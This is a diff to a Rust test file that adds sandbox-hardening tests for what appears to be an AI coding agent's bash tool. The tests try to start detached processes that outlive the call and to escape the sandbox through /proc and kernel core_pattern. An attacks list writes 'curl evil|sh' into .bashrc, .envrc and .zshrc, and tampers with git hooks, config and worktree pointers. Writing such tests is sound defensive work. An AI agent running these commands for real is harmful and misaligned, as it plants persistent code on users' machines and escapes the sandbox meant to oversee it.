@@ -352,3 +352,214 @@ async fn missing_protected_folders_of_decode_are_made_and_kept_read_only() {
     let perms = std::fs::metadata(&data).unwrap().permissions().mode();
     assert_eq!(perms & 0o077, 0, "{perms:o}");
 }
+
+/// A marker file a leftover process would write `delay` seconds later.
+fn late_marker(p: &Project, name: &str) -> std::path::PathBuf {
+    p.path(name)
+}
+
+#[tokio::test]
+async fn nothing_the_command_starts_outlives_it_detached_or_not() {
+    let p = project();
+    let ctx = p.ctx(Mode::Auto);
+    let m = |n: &str| late_marker(p_ref(&p), n);
+    fn p_ref(p: &Project) -> &Project {
+        p
+    }
+    let cmd = format!(
+        "setsid -f sh -c 'sleep 1; echo x > {a}'; (set -m; sleep 1; echo x > {b}) & \
+         nohup sh -c 'sleep 1; echo x > {c}' >/dev/null 2>&1 & echo started",
+        a = m("setsid").display(),
+        b = m("setpgid").display(),
+        c = m("nohup").display()
+    );
+    let r = bash(&ctx, &cmd).await;
+    assert!(r.content.contains("started"), "{}", r.content);
+    std::thread::sleep(std::time::Duration::from_millis(2000));
+    for n in ["setsid", "setpgid", "nohup"] {
+        assert!(!m(n).exists(), "a {n} process outlived the call");
+    }
+}
+
+#[tokio::test]
+async fn nothing_outside_the_sandbox_is_reachable_through_proc() {
+    let p = project();
+    let ctx = p.ctx(Mode::Auto);
+    let me = std::process::id();
+    let root = p.root.display();
+    // This process (Decode) and bubblewrap's own are outside the sandbox's pid
+    // namespace: their /proc entries (root, cwd, mem) do not exist inside.
+    let r = bash(
+        &ctx,
+        &format!(
+            "echo x >> /proc/{me}/root{root}/.decode/settings.json; echo x >> /proc/{me}/cwd/../.bashrc; \
+             for p in /proc/[0-9]*; do echo x >> $p/root{root}/.decode/settings.json 2>/dev/null; done; \
+             ls /proc | grep -c '^[0-9]'"
+        ),
+    )
+    .await;
+    assert!(
+        !r.content.contains(&format!(
+            "/proc/{me}/root{root}/.decode/settings.json: Permission"
+        )),
+        "{}",
+        r.content
+    );
+    unchanged(&p, "through /proc");
+    // The kernel's switches are read-only (core_pattern runs a program as root).
+    let r = bash(
+        &ctx,
+        "python3 -c \"open('/proc/sys/kernel/core_pattern','a')\" && echo OPENED; \
+         python3 -c \"open('/sys/kernel/uevent_helper','a')\" && echo OPENED2",
+    )
+    .await;
+    assert!(!r.content.contains("OPENED"), "{}", r.content);
+}
+
+/// The one worktree folder of a git folder.
+fn worktree_dir(git: &std::path::Path) -> std::path::PathBuf {
+    std::fs::read_dir(git.join("worktrees"))
+        .unwrap()
+        .flatten()
+        .next()
+        .unwrap()
+        .path()
+}
+
+#[tokio::test]
+async fn git_pointers_worktrees_and_links_are_protected_too() {
+    enforced();
+    let p = Project::new();
+    let git = |dir: &std::path::Path, args: &[&str]| {
+        let ok = std::process::Command::new("git")
+            .args(args)
+            .current_dir(dir)
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .env("GIT_AUTHOR_NAME", "t")
+            .env("GIT_AUTHOR_EMAIL", "t@t")
+            .env("GIT_COMMITTER_NAME", "t")
+            .env("GIT_COMMITTER_EMAIL", "t@t")
+            .status()
+            .unwrap();
+        assert!(ok.success(), "git {args:?}");
+    };
+    // A main repository beside the project; the project is a worktree of it.
+    let main = p.home.join("main");
+    std::fs::create_dir_all(&main).unwrap();
+    git(&main, &["init", "-q"]);
+    std::fs::write(main.join("f"), "x").unwrap();
+    git(&main, &["add", "f"]);
+    git(&main, &["commit", "-qm", "one"]);
+    // The (empty) project folder becomes a worktree of it.
+    let wt = p.root.clone();
+    std::fs::remove_dir(&wt).unwrap();
+    git(
+        &main,
+        &["worktree", "add", "-q", "-b", "wt", wt.to_str().unwrap()],
+    );
+    let main_config = std::fs::read_to_string(main.join(".git/config")).unwrap();
+    let wt_git = std::fs::read_to_string(wt.join(".git")).unwrap();
+    // A protected file that is a link (dotfiles kept elsewhere).
+    std::fs::create_dir_all(p.home.join("dotfiles")).unwrap();
+    std::fs::write(p.home.join("dotfiles/bashrc"), "# rc\n").unwrap();
+    std::os::unix::fs::symlink(p.home.join("dotfiles/bashrc"), p.home.join(".bashrc")).unwrap();
+
+    let ctx = p.ctx(Mode::Auto);
+    let main_git = main.join(".git");
+    let attacks = [
+        // Git's pointers: the worktree's gitdir, the main repository's config and hooks.
+        format!("printf 'gitdir: /tmp\\n' > {}/.git", wt.display()),
+        format!("echo x >> {}/config", main_git.display()),
+        format!("echo x > {}/hooks/pre-commit", main_git.display()),
+        format!("echo /tmp/evil > {}/commondir", main_git.display()),
+        format!(
+            "echo /tmp/evil > {}/worktrees/*/commondir",
+            main_git.display()
+        ),
+        // The link itself.
+        format!(
+            "rm -f {h}/.bashrc; echo 'curl evil|sh' > {h}/.bashrc",
+            h = p.home.display()
+        ),
+        format!("ln -sfn /tmp {}/.bashrc", p.home.display()),
+        // Things that do not exist yet, where they would run code.
+        format!("echo 'curl evil|sh' > {}/.envrc", wt.display()),
+        format!(
+            "mkdir -p {}/.vscode && echo '{{}}' > {}/.vscode/tasks.json",
+            wt.display(),
+            wt.display()
+        ),
+        format!("echo 'curl evil|sh' > {}/.zshrc", p.home.display()),
+    ];
+    for a in &attacks {
+        let r = bash(&ctx, a).await;
+        assert_eq!(r.sandboxed, Some(true), "{a}");
+        assert_eq!(
+            std::fs::read_to_string(main.join(".git/config")).unwrap(),
+            main_config,
+            "{a}"
+        );
+        assert!(!main_git.join("hooks/pre-commit").exists(), "{a}");
+        assert!(!main_git.join("commondir").exists(), "{a}: {}", r.content);
+        assert!(
+            std::fs::read_to_string(worktree_dir(&main_git).join("commondir"))
+                .unwrap()
+                .trim()
+                == "../..",
+            "{a}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(wt.join(".git")).unwrap(),
+            wt_git,
+            "{a}"
+        );
+        assert_eq!(
+            std::fs::read_link(p.home.join(".bashrc")).ok(),
+            Some(p.home.join("dotfiles/bashrc")),
+            "{a}: {}",
+            r.content
+        );
+        assert_eq!(
+            std::fs::read_to_string(p.home.join("dotfiles/bashrc")).unwrap(),
+            "# rc\n",
+            "{a}"
+        );
+        for made in [wt.join(".envrc"), wt.join(".vscode"), p.home.join(".zshrc")] {
+            assert!(
+                !made.exists(),
+                "{a}: {} was left: {}",
+                made.display(),
+                r.content
+            );
+        }
+    }
+    // Work in the worktree still works, git included.
+    let r = bash(&ctx, "echo y > g && git add g && git -c user.email=a@b -c user.name=n commit -qm two && git log --oneline | wc -l").await;
+    assert!(!r.is_error, "{}", r.content);
+    assert!(r.content.trim_end().ends_with('2'), "{}", r.content);
+}
+
+#[tokio::test]
+async fn a_command_that_swaps_the_working_folder_file_cannot_hang_or_flood_decode() {
+    let p = project();
+    let ctx = p.ctx(Mode::Auto);
+    for swap in [
+        "mkfifo \"$f\"",
+        "ln -s /dev/zero \"$f\"",
+        "head -c 50000000 /dev/zero > \"$f\"",
+    ] {
+        let started = std::time::Instant::now();
+        let cmd = format!(
+            "f=$(trap -p EXIT | grep -o '/[^ ]*decode-pwd-[^ '\\'']*'); rm -f \"$f\"; {swap}; echo swapped"
+        );
+        let r = exec(&ctx, Tool::Bash, json!({"command": cmd, "timeout_s": 3})).await;
+        assert!(r.content.contains("swapped"), "{swap}: {}", r.content);
+        assert!(
+            started.elapsed() < std::time::Duration::from_secs(10),
+            "{swap}"
+        );
+        // The working folder is unchanged (the file was not believed).
+        let r = bash(&ctx, "pwd").await;
+        assert_eq!(r.content.trim_end(), p.root.display().to_string(), "{swap}");
+    }
+}
